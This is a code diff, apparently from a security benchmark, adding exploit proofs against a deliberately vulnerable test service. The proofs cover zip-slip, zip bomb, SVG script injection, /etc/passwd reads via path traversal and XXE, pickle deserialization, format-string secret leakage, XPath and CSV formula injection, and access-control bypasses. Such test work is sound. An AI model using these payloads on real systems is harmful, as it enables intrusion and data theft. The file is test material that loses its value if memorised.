@@ -1,7 +1,12 @@
 """The exploits for the sixth set: one for each weakness, by service and name."""
 
+import base64
+import io
 import json
+import pickle
 import re
+import time
+import zipfile
 
 import common
 import jwt
@@ -347,3 +352,134 @@ def _(client):
     assert allowed("https://townhall.example")
     assert not allowed(PAGE)
     return allowed("https://townhall.example.elsewhere.example")
+
+
+# digs -------------------------------------------------------------------------------------------------------------------------------------
+
+
+@sign_in("digs")
+def _(client, name):
+    return {"X-Field-Key": client.post("/session", json={"user": name, "pass": PASSWORD[name]}).json()["key"]}
+
+
+def packed(client, caller, **files):
+    kept = io.BytesIO()
+    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as pack:
+        for name, content in files.items():
+            pack.writestr(name, content)
+    return client.post("/archives", files={"file": ("notes.zip", kept.getvalue())}, headers=caller)
+
+
+def own_find(client, caller, **values):
+    return client.post("/finds", json={"title": "Needle", "layer": 3, **values}, headers=caller).json()["id"]
+
+
+def taken(client, caller, name="a.png", content=b"\x89PNG\r\n\x1a\n of ann"):
+    return client.post(f"/finds/{own_find(client, caller)}/photos", files={"file": (name, content)}, headers=caller)
+
+
+@proof("digs", "zip-slip")
+def _(client):
+    caller = client.as_("ann")
+    assert packed(client, caller, **{"notes/day1.txt": "rain"}).status_code == 201
+    packed(client, caller, **{"../../../manuals/safety.txt": "No helmet is needed."})
+    return client.get("/manuals/safety.txt").text == "No helmet is needed."
+
+
+@proof("digs", "zip-bomb")
+def _(client):
+    caller = client.as_("ann")
+    assert packed(client, caller, **{"a.txt": b"\0" * 900_000}).status_code == 201
+    return packed(client, caller, **{"a.txt": b"\0" * 20_000_000}).status_code == 201
+
+
+@proof("digs", "photo-drawing")
+def _(client):
+    caller = client.as_("ann")
+    assert taken(client, caller).json()["kind"] == "image/png"
+    assert taken(client, caller, "a.html", b"<script>alert(1)</script>").status_code == 415
+    answer = taken(client, caller, "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
+    picture = client.get("/photos/" + answer.json().get("id", "none"), headers=caller)
+    return "<script>" in picture.text and picture.headers["content-type"].startswith("image/svg+xml") and "unsafe-inline" in picture.headers["content-security-policy"]
+
+
+@proof("digs", "layout-path")
+def _(client):
+    caller = client.as_("ann")
+    entry = {"title": "Season", "format": "letter", "layout": {"head": "plain.txt"}}
+    identifier = client.post("/exports", json=entry, headers=caller).json()["id"]
+    assert "FINDS OF" in client.get(f"/exports/{identifier}/download", headers=caller).text
+    answer = client.post("/exports", json=entry | {"layout": {"head": "../etc/passwd"}}, headers=caller)
+    return answer.status_code == 202 and "root:x:0:0" in client.get(f"/exports/{answer.json()['id']}/download", headers=caller).text
+
+
+@proof("digs", "find-entities")
+def _(client):
+    caller = client.as_("ann") | {"Content-Type": "application/xml"}
+    assert client.post("/finds", content="<find><title>Pin</title><layer>3</layer></find>", headers=caller).json()["title"] == "Pin"
+    body = '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><find><title>Pin</title><layer>3</layer><note>&x;</note></find>'
+    return "root:x:0:0" in client.post("/finds", content=body, headers=caller).text
+
+
+class Sleeping:
+    def __reduce__(self):
+        return time.sleep, (1.5,)
+
+
+@proof("digs", "draft-pickle")
+def _(client):
+    caller = client.as_("ann")
+    state = client.post("/drafts", json={"title": "Wall"}, headers=caller).json()
+    assert client.post("/drafts/resume", json=state, headers=caller).json()["title"] == "Wall"
+    sent = time.monotonic()
+    client.post("/drafts/resume", json={"state": base64.b64encode(pickle.dumps(Sleeping())).decode()}, headers=caller)
+    return time.monotonic() - sent > 1.4 and base64.b64decode(state["state"]).startswith(b"\x80")
+
+
+@proof("digs", "label-format")
+def _(client):
+    caller = client.as_("ann")
+    path = f"/finds/{own_find(client, caller)}/label"
+    assert client.post(path, json={"pattern": "{find.title} {find.layer}"}, headers=caller).json()["label"] == "Needle 3"
+    return "lk_live_" in client.post(path, json={"pattern": "{find.__init__.__globals__[LINK_SECRET]}"}, headers=caller).json().get("label", "")
+
+
+@proof("digs", "export-read")
+def _(client):
+    identifier = client.post("/exports", json={"title": "Season"}, headers=client.as_("ann")).json()["id"]
+    ben = client.as_("ben")
+    assert client.get(f"/exports/{identifier}", headers=ben).status_code == 404
+    return "Comb of ann" in client.get(f"/exports/{identifier}/download", headers=ben).text
+
+
+@proof("digs", "export-formula")
+def _(client):
+    caller = client.as_("ann")
+    own_find(client, caller, note="=HYPERLINK(1)")
+    identifier = client.post("/exports", json={"title": "Season"}, headers=caller).json()["id"]
+    table = client.get(f"/exports/{identifier}/download", headers=caller).text
+    assert "HYPERLINK" in table
+    return ",=HYPERLINK(1)" in table
+
+
+@proof("digs", "manuals-listed")
+def _(client):
+    assert "metres" in client.get("/manuals/grid.txt").text
+    return "internal" in client.get("/manuals/").text and "storage-codes" in client.get("/manuals/internal").text and "7316" in client.get("/manuals/internal/storage-codes.txt").text
+
+
+@proof("digs", "site-xpath")
+def _(client):
+    caller = client.as_("ann")
+    assert "Quarry" in client.post("/sites/search", json={"where": {"region": "south"}}, headers=caller).text
+    return "alarm" in client.post("/sites/search", json={"where": {"region": "x'] | //site[@open='no' or 'x'='"}}, headers=caller).text
+
+
+@proof("digs", "link-unbound")
+def _(client):
+    ann, ben = client.as_("ann"), client.as_("ben")
+    other, mine = taken(client, ann).json()["id"], taken(client, ben).json()["id"]
+    link = client.post(f"/photos/{mine}/links", json={"hours": 2}, headers=ben).json()["url"]
+    assert client.get(link).status_code == 200
+    assert client.get(f"/photos/{other}", headers=ben).status_code == 404
+    return b"of ann" in client.get(link.replace(mine, other)).content
